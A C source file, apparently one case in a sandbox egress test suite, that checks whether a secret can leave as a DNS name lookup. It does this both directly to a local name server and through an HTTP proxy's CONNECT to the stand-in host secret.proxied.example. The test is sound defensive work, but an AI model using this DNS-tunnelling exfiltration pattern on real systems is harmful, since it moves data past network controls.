/* SPDX-License-Identifier: Apache-2.0 */
/*
 * DNS tunnelling: a secret leaves as part of a name that is looked up, by us or by a proxy that looks names up before it judges them. The name
 * server writes down what it is asked (resolver.py).
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

static int dial(int type, unsigned long port)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((uint16_t)port),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = socket(AF_INET, type | SOCK_CLOEXEC, 0);

	return fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0 ? -1 : fd;
}

static int exchange(int fd, const void *question, size_t size)
{
	struct pollfd wait = { .fd = fd, .events = POLLIN };
	char answer[512];

	if (fd < 0 || send(fd, question, size, MSG_NOSIGNAL) < 0)
		return errno;
	if (poll(&wait, 1, 20000) != 1)
		return ETIMEDOUT;
	return read(fd, answer, sizeof(answer)) > 0 ? 0 : errno ? errno : ECONNRESET;
}

static int direct(const struct attack *a)
{
	static const char question[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x06"
				       "direct\x00\x00\x01\x00\x01";

	(void)a;
	return exchange(dial(SOCK_DGRAM, 53), question, sizeof(question) - 1);
}

/* Whether the proxy answers says nothing; the name server's notes do. Without a proxy: as above. */
static int by_proxy(const struct attack *a)
{
	const char *url = getenv("HTTP_PROXY"), *colon = url ? strrchr(url, ':') : NULL;
	static const char question[] = "CONNECT secret.proxied.example:443 HTTP/1.1\r\nHost: secret.proxied.example:443\r\n\r\n";
	int r;

	if (!colon)
		return direct(a);
	r = exchange(dial(SOCK_STREAM, strtoul(colon + 1, NULL, 10)), question, sizeof(question) - 1);
	return r != 0 ? r : EACCES;
}

static const struct way ways[] = {
	{ "direct", direct },
	{ "by_proxy", by_proxy },
};

ATTACK_MAIN(ways)
